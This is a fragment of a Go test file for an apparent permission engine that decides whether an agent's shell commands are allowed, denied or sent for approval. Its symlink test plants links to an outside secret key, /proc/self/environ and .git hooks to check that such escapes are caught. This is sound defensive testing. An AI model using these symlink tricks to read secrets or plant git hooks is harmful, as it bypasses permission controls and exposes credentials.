	}
	for _, c := range []string{"ls 'unterminated", "ls \x00", "ls )", "echo $((", strings.Repeat("(", 10000)} {
		if r := e.Decide(Request{Command: c, Cwd: testCwd}); r.Decision.Verdict == allow {
			t.Errorf("%q: %v; want no allow", c, r.Decision)
		}
	}
}

// TestWith checks that request rules add to the engine's and leave it as
// it was.
func TestWith(t *testing.T) {
	e := mustEngine(t, rules("Bash(make)"))
	e2, err := e.With(rules("deny: Bash(make:*)", "Bash(npm test)"))
	if err != nil {
		t.Fatal(err)
	}
	if r := e2.Decide(Request{Command: "make", Cwd: testCwd}); r.Decision.Verdict != deny {
		t.Errorf("with deny: make = %v", r.Decision)
	}
	if r := e2.Decide(Request{Command: "npm test", Cwd: testCwd}); r.Decision.Verdict != allow {
		t.Errorf("with allow: npm test = %v", r.Decision)
	}
	if r := e.Decide(Request{Command: "make", Cwd: testCwd}); r.Decision.Verdict != allow {
		t.Errorf("original changed: make = %v", r.Decision)
	}
}

func TestKind(t *testing.T) {
	e := mustEngine(t, policy.Permissions{})
	for _, tc := range []struct{ cmd, want string }{
		{"grep foo x", KindSearch}, {"rg foo", KindSearch}, {"find . -name x", KindSearch},
		{"cat x", KindRead}, {"head x | wc -l", KindRead}, {"jq . x", KindRead},
		{"ls", KindList}, {"tree", KindList}, {"du -sh", KindList},
		{"cat x | grep y", KindSearch}, {"ls | grep x", KindSearch}, {"ls && cat x", KindRead},
		{"mkdir x", KindSilent}, {"mv a b && cp c d", KindSilent}, {"rm x", KindSilent},
		{"echo hi", KindNone}, {"npm test", KindNone}, {"cat x | npm test", KindNone}, {"mkdir x && ls", KindNone},
		{"timeout 5 grep x y", KindSearch}, {"for i in 1; do ls; done", KindNone},
	} {
		if r := e.Decide(Request{Command: tc.cmd, Cwd: testCwd}); r.Kind != tc.want {
			t.Errorf("%q: kind %q; want %q", tc.cmd, r.Kind, tc.want)
		}
	}
}

// TestSymlinks: with Resolve set, a link inside the working directory
// cannot lead a read or a write outside it (CVE-2025-59829, deny rules
// bypassed through symbolic links, is the same idea for Read rules).
func TestSymlinks(t *testing.T) {
	root := t.TempDir()
	proj := filepath.Join(root, "proj")
	outside := filepath.Join(root, "secret")
	for _, d := range []string{filepath.Join(proj, "src"), filepath.Join(proj, ".git", "hooks"), outside} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	must := func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.WriteFile(filepath.Join(outside, "key"), []byte("k"), 0o600))
	must(os.WriteFile(filepath.Join(proj, "src", "a.go"), []byte("package a"), 0o644))
	must(os.Symlink(filepath.Join(outside, "key"), filepath.Join(proj, "key-link")))
	must(os.Symlink(outside, filepath.Join(proj, "dir-link")))
	must(os.Symlink(filepath.Join(proj, "src"), filepath.Join(proj, "src-link")))
	must(os.Symlink("/proc/self/environ", filepath.Join(proj, "env-link")))
	must(os.Symlink(filepath.Join(proj, ".git"), filepath.Join(proj, "g")))
	must(os.Symlink(filepath.Join(root, "home", ".bashrc"), filepath.Join(proj, "dangling")))
	// the working directory reached through a link
	alias := filepath.Join(root, "alias")
	must(os.Symlink(proj, alias))

	none := func(string) policy.Decision { return policy.Decision{} }
	e, err := New(policy.Permissions{}, Options{FollowSymlinks: true, Validate: none})
	if err != nil {
		t.Fatal(err)
	}
	lexical, err := New(policy.Permissions{}, Options{Validate: none})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		cwd, mode, cmd string
		want, lex      policy.Verdict
	}{
		{proj, "", "cat src/a.go", allow, allow},
		{proj, "", "cat src-link/a.go", allow, allow},
		{proj, "", "cat key-link", askV, allow},
		{proj, "", "cat dir-link/key", askV, allow},
		{proj, "", "cat env-link", askV, allow},
		{proj, "", "cd dir-link && cat key", askV, allow},
		{proj, "acceptEdits", "touch dir-link/new", askV, allow},
		{proj, "acceptEdits", "echo x > key-link", askV, allow},
		{proj, "acceptEdits", "echo x > g/config", askV, allow},
		{proj, "acceptEdits", "touch g/hooks/pre-commit", askV, allow},
		{proj, "acceptEdits", "echo x > dangling", askV, allow},
		{proj, "acceptEdits", "mkdir -p src-link/new", allow, allow},
		{alias, "", "cat src/a.go", allow, allow},
		{alias, "", "cat " + filepath.Join(proj, "src/a.go"), allow, askV},
		{alias, "", "cat key-link", askV, allow},
	} {
		for _, eng := range []struct {
			e    *Engine
			want policy.Verdict
			name string
		}{{e, tc.want, "resolved"}, {lexical, tc.lex, "lexical"}} {
			r := eng.e.Decide(Request{Command: tc.cmd, Cwd: tc.cwd, Mode: tc.mode})
			if r.Decision.Verdict != eng.want {
				t.Errorf("%s, cwd %s: %q = %v; want %v", eng.name, filepath.Base(tc.cwd), tc.cmd, r.Decision, eng.want)
			}
		}
	}
}
